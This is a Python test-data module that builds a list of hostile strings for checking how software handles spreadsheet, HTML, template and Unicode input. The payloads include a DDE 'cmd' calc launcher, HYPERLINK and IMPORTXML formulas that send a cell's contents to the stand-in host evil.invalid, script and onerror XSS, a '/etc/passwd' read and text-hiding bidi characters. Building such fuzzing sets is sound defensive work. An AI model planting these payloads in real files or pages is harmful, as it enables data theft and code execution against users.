"""Strings that break files, run in spreadsheets or browsers, or hide what they say."""

from __future__ import annotations

from itertools import islice, product

STARTS = (
    "", "=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000=", "'=",
    "''+", "\ufeff=", "\u200b=", "﹦", "\x00=", "\u202e", "\u2066@", ";=", '"=', "%",
)  # fmt: skip
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"点我\")",
    "IMPORTXML(CONCAT(\"http://evil.invalid/\",A1),\"//a\")",
    "<script>alert(1)</script>",
    "</script><script>fetch('http://evil.invalid/')</script>",
    "<img src=http://evil.invalid/x onerror=alert(1)>",
    "![x](http://evil.invalid/y.png) [a](javascript:alert(1))",
    "#read(\"/etc/passwd\") #panic() $x^2$ @ref <label>",
    "{{ 7 * 7 }}{% for x in y %}{0}{name}{}%s%(a)s",
    "\"quoted\", 'single', a,b\r\nnew;line\ttab",
    "]]>&amp;<![CDATA[x]]><!-- -->&lt;",
    "\x01\x02\x1f\x7f\x85\ufffe\uffff\u2028\u2029",
    "\u202eabc\u202c\u2067def\u2069\u200f",
    "NaN", "inf", "1e999", "12.5%", "００７",
    "长" * 300 + "🏥𠀀",
)  # fmt: skip
STRINGS = [a + b for a, b in islice(product(STARTS, PAYLOADS), 500)]
